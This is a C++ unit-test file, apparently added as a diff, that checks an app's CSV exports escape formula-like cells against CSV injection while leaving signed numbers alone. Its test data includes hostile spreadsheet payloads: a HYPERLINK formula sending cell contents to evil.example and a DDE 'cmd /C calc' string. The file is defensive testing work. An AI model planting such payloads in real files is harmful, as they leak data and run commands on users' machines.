@@ -1,0 +1,190 @@
+// Issue 14, item 8: every CSV the app exports writes a cell that begins with = + - @, a tab or a carriage return as
+// text, with a leading ' (OWASP "CSV Injection"), so Excel or WPS never runs a name as a formula; a figure such as
+// "-12.50" or "+3" is a plain number and stays one. The rule is core::spreadsheet_text; the exports are the app's
+// tables (roster, ledger, village, household under a reform), built here natively as the screen builds them.
+#include <regex>
+#include <string>
+#include <vector>
+
+#include <doctest/doctest.h>
+
+#include "app/exports.h"
+#include "app/session.h"
+#include "core/csv_write.h"
+#include "helpers.h"
+
+namespace {
+
+using namespace zengshou::test;
+using zengshou::app::TextTable;
+
+// Names a cadre's roster might carry, written by someone who wants a spreadsheet to run them.
+const std::vector<std::string> hostile_names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+                                                "+1",
+                                                "-cmd",
+                                                "@SUM(A1:A9)",
+                                                "\tx",
+                                                "\r=1+1",
+                                                "-2+3+cmd|' /C calc'!A0"};
+
+// A CSV file's rows of cells (RFC 4180: quoted cells, doubled quotes, CR LF), after its byte-order mark.
+std::vector<std::vector<std::string>> read_csv(const std::string& text) {
+  REQUIRE(text.rfind("\xEF\xBB\xBF", 0) == 0);
+  std::vector<std::vector<std::string>> rows(1);
+  std::string cell;
+  bool quoted = false;
+  for (size_t i = 3; i < text.size(); ++i) {
+    const char c = text[i];
+    if (quoted) {
+      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
+        cell += '"';
+        ++i;
+      } else if (c == '"') {
+        quoted = false;
+      } else {
+        cell += c;
+      }
+    } else if (c == '"') {
+      quoted = true;
+    } else if (c == ',') {
+      rows.back().push_back(cell);
+      cell.clear();
+    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
+      rows.back().push_back(cell);
+      cell.clear();
+      rows.emplace_back();
+      ++i;
+    } else {
+      cell += c;
+    }
+  }
+  REQUIRE(rows.back().empty());  // the file ends with a line end
+  rows.pop_back();
+  return rows;
+}
+
+// What a cell must become, worked out apart from the code under test: a leading ' exactly when the cell begins
+// with = + - @ tab or CR and is not a plain number.
+std::string expected_cell(const std::string& cell) {
+  static const std::regex plain_number("[+-]?[0-9]+(\\.[0-9]+)?");
+  const bool formula_start = !cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
+  return formula_start && !std::regex_match(cell, plain_number) ? "'" + cell : cell;
+}
+
+// The export read back cell by cell is the table with the rule applied to each cell; returns the rows read.
+std::vector<std::vector<std::string>> check_export(const TextTable& table) {
+  const auto rows = read_csv(zengshou::app::csv_text(table));
+  REQUIRE_EQ(rows.size(), table.rows.size() + 1);
+  for (size_t r = 0; r < rows.size(); ++r) {
+    const std::vector<std::string>& cells = r == 0 ? table.header : table.rows[r - 1];
+    REQUIRE_EQ(rows[r].size(), cells.size());
+    for (size_t c = 0; c < cells.size(); ++c) CHECK_EQ(rows[r][c], expected_cell(cells[c]));
+  }
+  return rows;
+}
+
+bool has_cell(const std::vector<std::vector<std::string>>& rows, const std::string& text) {
+  for (const auto& row : rows)
+    for (const std::string& cell : row)
+      if (cell == text) return true;
+  return false;
+}
+
+Household named_household(const std::string& name) {
+  Household h = household(Category::tuopin, 2022, {adult(1980, {job(JobKind::local, 12, 1500)})}, "yunnan/changning");
+  h.id = name;
+  h.head = name;
+  h.village = name;
+  return h;
+}
+
+}  // namespace
+
+TEST_CASE("the OWASP rule: a cell that begins with = + - @ tab or CR is written as text, a plain number as is") {
+  using zengshou::core::csv_cell;
+  using zengshou::core::spreadsheet_text;
+  CHECK_EQ(spreadsheet_text("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
+  CHECK_EQ(spreadsheet_text("-cmd"), "'-cmd");
+  CHECK_EQ(spreadsheet_text("@SUM(A1)"), "'@SUM(A1)");
+  CHECK_EQ(spreadsheet_text("\tx"), "'\tx");
+  CHECK_EQ(spreadsheet_text("\rx"), "'\rx");
+  CHECK_EQ(spreadsheet_text("+1+1"), "'+1+1");
+  CHECK_EQ(spreadsheet_text("-"), "'-");
+  CHECK_EQ(spreadsheet_text("-1."), "'-1.");
+  CHECK_EQ(spreadsheet_text("-.5"), "'-.5");
+  CHECK_EQ(spreadsheet_text("-1e5"), "'-1e5");
+  // Plain numbers, as the app writes figures and differences: a spreadsheet reads them as numbers.
+  CHECK_EQ(spreadsheet_text("-12.50"), "-12.50");
+  CHECK_EQ(spreadsheet_text("+3"), "+3");
+  CHECK_EQ(spreadsheet_text("+1"), "+1");
+  CHECK_EQ(spreadsheet_text("1200.00"), "1200.00");
+  // Anything else is left as it is.
+  CHECK_EQ(spreadsheet_text(""), "");
+  CHECK_EQ(spreadsheet_text("张三"), "张三");
+  CHECK_EQ(spreadsheet_text("1-2"), "1-2");
+  CHECK_EQ(spreadsheet_text(" =1"), " =1");
+  // Then CSV quoting: the ' comes inside the quotes.
+  CHECK_EQ(csv_cell("=A1,B1"), "\"'=A1,B1\"");
+  CHECK_EQ(csv_cell("=\"x\""), "\"'=\"\"x\"\"\"");
+  CHECK_EQ(csv_cell("\r=1"), "\"'\r=1\"");
+  CHECK_EQ(csv_cell("a,b"), "\"a,b\"");
+}
+
+TEST_CASE("the roster export (农户台账) writes hostile ids, heads and villages as text") {
+  zengshou::app::Roster roster;
+  std::vector<int> order;
+  for (const std::string& name : hostile_names) order.push_back(static_cast<int>(roster.add(named_household(name))));
+  const auto rows = check_export(zengshou::app::roster_table(roster, order));
+  CHECK(has_cell(rows, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"));
+  CHECK(has_cell(rows, "+1"));  // a plain number: Excel shows 1, and runs nothing
+  CHECK(has_cell(rows, "'-cmd"));
+  CHECK(has_cell(rows, "'@SUM(A1:A9)"));
+  CHECK(has_cell(rows, "'\tx"));
+  CHECK(has_cell(rows, "'\r=1+1"));
+  CHECK(has_cell(rows, "'-2+3+cmd|' /C calc'!A0"));
+  CHECK_FALSE(has_cell(rows, "-cmd"));
+}
+
+TEST_CASE("the ledger export (季度台账) writes hostile names as text and a loss as a number") {
+  zengshou::app::Roster roster;
+  for (const std::string& name : hostile_names) {
+    const size_t i = roster.add(named_household(name));
+    zengshou::core::QuarterRecord& q = roster.households()[i].quarter(2022, 1);
+    q.production_cost = yuan(500);  // nothing earned, 500 spent: the quarter's net is -500.00
+    roster.ledger_changed(i);
+  }
+  const auto rows = check_export(zengshou::app::ledger_table(roster, 2022));
+  CHECK_EQ(rows.size(), hostile_names.size() + 1);
+  CHECK(has_cell(rows, "'-cmd"));
+  CHECK(has_cell(rows, "'@SUM(A1:A9)"));
+  CHECK(has_cell(rows, "-500.00"));
+  CHECK_FALSE(has_cell(rows, "'-500.00"));
+}
+
+TEST_CASE("the village exports (村级模拟) and the household under a reform keep signed differences as numbers") {
+  zengshou::app::Session s;
+  s.household() = named_household("-cmd");
+  s.household().members[0].jobs = {job(JobKind::public_welfare_post, 12, 0)};
+  // A lower floor for public welfare posts (公益性岗位): the post pays less, so differences are negative.
+  s.reform().set(ParamId::post_monthly_floor, 10000);
+  s.reform_changed();
+  s.refresh();
+  zengshou::app::VillageModel village;
+  village.households = 60;
+  village.update(s);
+  std::vector<std::vector<std::string>> all;
+  for (const TextTable& t :
+       {zengshou::app::village_summary_table(village), zengshou::app::village_effect_table(village),
+        zengshou::app::village_programme_table(village), zengshou::app::village_decile_table(village),
+        zengshou::app::reform_comparison_table(s.result(), s.reform_result())}) {
+    const auto rows = check_export(t);
+    all.insert(all.end(), rows.begin(), rows.end());
+  }
+  bool negative = false;
+  for (const auto& row : all)
+    for (const std::string& cell : row) {
+      negative |= cell.size() > 1 && cell[0] == '-';
+      CHECK_NE(cell.rfind("'", 0), 0u);  // no label or figure of these tables is a formula
+    }
+  CHECK(negative);
+}
